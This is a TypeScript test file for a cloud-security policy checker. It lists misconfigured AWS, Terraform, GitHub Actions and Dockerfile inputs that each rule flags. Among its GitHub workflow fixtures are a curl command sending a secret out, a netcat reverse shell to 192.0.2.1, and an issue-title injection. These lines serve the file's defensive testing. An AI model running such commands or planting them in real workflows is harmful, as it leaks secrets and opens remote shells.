import { describe, expect, it } from "vitest";
import { denyWithoutTls } from "../constructs/policy.ts";
import { judge, policyRules } from "../ops/policies/judge.ts";

const EVERYBODY = { Effect: "Allow", Principal: "*", Action: "sqs:SendMessage", Resource: "arn" };

/** What breaks each rule that is about more than something being there. */
const BROKEN: readonly (readonly [rule: string, type: string, attributes: object])[] = [
  ["CKV_AWS_72", "aws_sqs_queue_policy", policy({ ...EVERYBODY, Action: "sqs:*" })],
  ["CKV_AWS_168", "aws_sqs_queue_policy", policy(EVERYBODY)],
  ["CKV_AWS_168", "aws_sqs_queue", policy(EVERYBODY)],
  [
    "CKV_AWS_387",
    "aws_sqs_queue_policy",
    policy({ ...EVERYBODY, Principal: { AWS: "arn:aws:iam::*:root" } }),
  ],
  ["CKV_AWS_169", "aws_sns_topic_policy", policy({ ...EVERYBODY, Principal: { AWS: ["*"] } })],
  [
    "CKV_AWS_385",
    "aws_sns_topic_policy",
    policy({ ...EVERYBODY, Principal: { AWS: "arn:aws:iam::*:root" } }),
  ],
  ["CKV_AWS_70", "aws_s3_bucket_policy", policy(EVERYBODY)],
  ["CKV_AWS_93", "aws_s3_bucket_policy", policy({ Effect: "Deny", Principal: "*", Action: "s3:*" })],
  ["CKV_AWS_20", "aws_s3_bucket", { acl: "public-read" }],
  ["CKV_AWS_57", "aws_s3_bucket", { acl: "public-read-write" }],
  ["CKV_AWS_60", "aws_iam_role", trust({ Principal: { AWS: "*" } })],
  ["CKV_AWS_61", "aws_iam_role", trust({ Principal: { AWS: "arn:aws:iam::123456789012:root" } })],
  ["CKV_AWS_274", "aws_iam_role", { ...trust({}), managed_policy_arns: ["arn:…/AdministratorAccess"] }],
  ["CKV_AWS_393", "aws_iam_role", trust(github("repo:*:environment:prod"))],
  ["CKV_AWS_393", "aws_iam_role", trust(github("repo:us/ours:*"))],
  ["CKV_AWS_393", "aws_iam_role", trust(github("repo:us@1/ours:environment:prod"))],
  ["CKV_AWS_393", "aws_iam_role", trust(github("repo:us@*/ours@2:environment:prod"))],
  ["CKV_AWS_393", "aws_iam_role", trust(github("environment:prod:repo:us/ours"))],
  ...inEachPolicy("CKV_AWS_62", allow("*")),
  ...inEachPolicy("CKV_AWS_63", allow("s3:*")),
  ...inEachPolicy("CKV_AWS_286", allow("iam:PassRole")),
  ...inEachPolicy("CKV_AWS_287", allow("sts:AssumeRole")),
  ...inEachPolicy("CKV_AWS_288", allow("s3:GetObject")),
  ...inEachPolicy("CKV_AWS_289", allow("s3:PutBucketPolicy")),
  ...inEachPolicy("CKV_AWS_290", allow("lambda:UpdateFunctionCode")),
  ...inEachPolicy("CKV_AWS_355", allow("s3:GetObject")),
  ...inEachPolicy("POLICY_ONLY_TRACES", allow("logs:DescribeLogGroups")),
  ["CKV_AWS_33", "aws_kms_key", policy({ ...EVERYBODY, Action: "kms:*" })],
  ["CKV_AWS_227", "aws_kms_key", { ...policy(), is_enabled: false }],
  ["CKV_AWS_45", "aws_lambda_function", { environment: { variables: { password: "x" } } }],
  ["CKV_AWS_301", "aws_lambda_permission", { principal: "*" }],
  ["CKV_AWS_319", "aws_cloudwatch_metric_alarm", { actions_enabled: false }],
  ["QUEUE_TLS", "aws_sqs_queue_policy", policy()],
  ["TOPIC_TLS", "aws_sns_topic_policy", policy()],
  ["BUCKET_TLS", "aws_s3_bucket_policy", policy()],
  ["BUCKET_TLS", "aws_s3_bucket_policy", policy(denyWithoutTls("s3:*", ["arn:aws:s3:::it"]))],
  ["BUCKET_TLS", "aws_s3_bucket_policy", policy(denyWithoutTls("s3:*", ["arn:aws:s3:::it/*"]))],
  ["QUEUE_TLS", "aws_sqs_queue_policy", policy(denyWithoutTls("sqs:SendMessage", "arn"))],
  ["CKV_AWS_309", "aws_apigatewayv2_route", { route_key: "GET /health", authorization_type: "NONE" }],
  ["CKV_AWS_309", "aws_apigatewayv2_route", { route_key: "OPTIONS /generate", authorization_type: "NONE" }],
  ["CKV_AWS_41", "provider", { access_key: "AKIAIOSFODNN7EXAMPLE" }],
  ["PROVIDER_PINNED", "terraform", terraform({ required_providers: { aws: { version: "~> 5.0" } } })],
  ["STATE_LOCKED", "terraform", terraform({ backend: { s3: { encrypt: true } } })],
  ["CKV_GHA_1", "github_workflow", { ...job({}), env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true } }],
  ["CKV_GHA_2", "github_workflow", job({ run: `echo \${{ github.event.issue.title }}` })],
  ["CKV_GHA_3", "github_workflow", job({ run: "curl -d $SECRET example.com" })],
  ["CKV_GHA_4", "github_workflow", job({ run: "nc -e /bin/sh 192.0.2.1 4444" })],
  ["CKV_GHA_5", "github_workflow", job({ uses: "docker/build-push-action@1", with: { push: true } })],
  ["CKV_GHA_6", "github_workflow", job({ uses: "docker/build-push-action@1", with: { push: true } })],
  ["CKV_GHA_7", "github_workflow", { ...job({}), on: { workflow_dispatch: { inputs: { what: {} } } } }],
  ["CKV_DOCKER_1", "dockerfile", says("EXPOSE", "22")],
  ["CKV_DOCKER_2", "dockerfile", says("USER", "1")],
  ["CKV_DOCKER_3", "dockerfile", says("RUN", "true")],
  ["CKV_DOCKER_4", "dockerfile", says("ADD", ". .")],
  ["CKV_DOCKER_5", "dockerfile", says("RUN", "apt-get update")],
  ["CKV_DOCKER_6", "dockerfile", says("MAINTAINER", "us")],
  ["CKV_DOCKER_7", "dockerfile", says("FROM", "--platform=linux/arm64 node:latest AS build")],
  ["CKV_DOCKER_7", "dockerfile", says("FROM", "node")],
  ["CKV_DOCKER_8", "dockerfile", says("USER", "root")],
  ["CKV_DOCKER_9", "dockerfile", says("RUN", "apt install jq")],
  ["CKV_DOCKER_10", "dockerfile", says("WORKDIR", "app")],
  ["CKV_DOCKER_11", "dockerfile", says("FROM", "a:1 AS build", "b:1 AS build")],
];

function inEachPolicy(rule: string, attributes: object): (readonly [string, string, object])[] {
  return ["aws_iam_role_policy", "aws_iam_policy"].map((type) => [rule, type, attributes]);
}

/** The ids of the rules that a stack breaks. */
function broken(resources: Readonly<Record<string, Readonly<Record<string, object>>>>): string[] {
  const stack = {
    resources: (type: string) =>
      Object.fromEntries(Object.entries(resources[type] ?? {}).map(([name, it]) => [name, { ...it }])),
  };
  return judge(stack, []).violations.map(({ rule }) => rule.id);
}

describe("each rule can be broken:", () => {
  it.each(BROKEN)("%s by the %s %j", (rule, type, attributes) => {
    expect(broken({ [type]: { it: attributes } })).toContain(rule);
  });

  const inTable = ["QUEUE_VISIBILITY", "SOURCE_RECURSION", ...BROKEN.map(([rule]) => rule)];

  it.each(policyRules.filter(({ id }) => !inTable.includes(id)))(
    "$id by a $type with nothing set",
    (rule) => {
      expect(rule.holds({}, { resources: () => ({}) }, "it")).toBe(false);
    },
  );

  it.each(["repo:us/ours:environment:prod", "repo:us@1/ours@2:environment:prod"])(
    "CKV_AWS_393 not by a role that trusts %s",
    (subject) => {
      expect(broken({ aws_iam_role: { it: trust(github(subject)) } })).not.toContain("CKV_AWS_393");
    },
  );

  it("SOURCE_RECURSION by a function that sends to its own source, unless its loop is allowed", () => {
    const Resource = `\${aws_sqs_queue.it.arn}`;
    const sends = JSON.stringify({ Statement: [{ Effect: "Allow", Action: "sqs:SendMessage", Resource }] });
    const name = `\${aws_lambda_function.it.function_name}`;
    const resources = {
      aws_lambda_function: { it: { role: `\${aws_iam_role.its.arn}` } },
      aws_iam_role_policy: { it: { role: `\${aws_iam_role.its.name}`, policy: sends } },
      aws_lambda_event_source_mapping: { it: { event_source_arn: Resource, function_name: name } },
    };
    const config = (loop: string) => ({
      ...resources,
      aws_lambda_function_recursion_config: { it: { function_name: name, recursive_loop: loop } },
    });
    expect(broken(resources)).toContain("SOURCE_RECURSION");
    expect(broken(config("Terminate"))).toContain("SOURCE_RECURSION");
    expect(broken(config("Allow"))).not.toContain("SOURCE_RECURSION");
  });

  it("QUEUE_VISIBILITY by a queue that hides a message for less than its consumer may take", () => {
    const consumer = { event_source_arn: `\${aws_sqs_queue.it.arn}`, function_name: `\${fn.it.name}` };
    const resources = (seconds: number) => ({
      aws_sqs_queue: { it: { visibility_timeout_seconds: seconds } },
      aws_lambda_function: { it: { timeout: 30 } },
      aws_lambda_event_source_mapping: { it: { ...consumer, maximum_batching_window_in_seconds: 20 } },
    });
    // Six time-outs, and the batch window.
    expect(broken(resources(199))).toContain("QUEUE_VISIBILITY");
    expect(broken(resources(200))).not.toContain("QUEUE_VISIBILITY");
  });
});

function policy(...Statement: readonly object[]) {
  return { policy: JSON.stringify({ Statement }) };
}

function allow(action: string) {
  return policy({ Effect: "Allow", Action: action, Resource: "*" });
}

function trust(statement: object) {
  const Statement = [{ Effect: "Allow", Action: "sts:AssumeRole", ...statement }];
  return { assume_role_policy: JSON.stringify({ Statement }) };
}

function github(subject: string) {
  const claims = {
    "token.actions.githubusercontent.com:aud": "sts.amazonaws.com",
    "token.actions.githubusercontent.com:sub": subject,
  };
  return { Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringLike: claims } };
}

function terraform(change: object) {
  return {
    required_providers: { aws: { version: "5.100.0" } },
    backend: { s3: { encrypt: true, use_lockfile: true } },
    ...change,
  };
}

function job(step: object) {
  return { on: {}, jobs: { one: { steps: [step] } } };
}

function says(name: string, ...values: readonly string[]) {
  return { instructions: values.map((value) => ({ name, value })) };
}
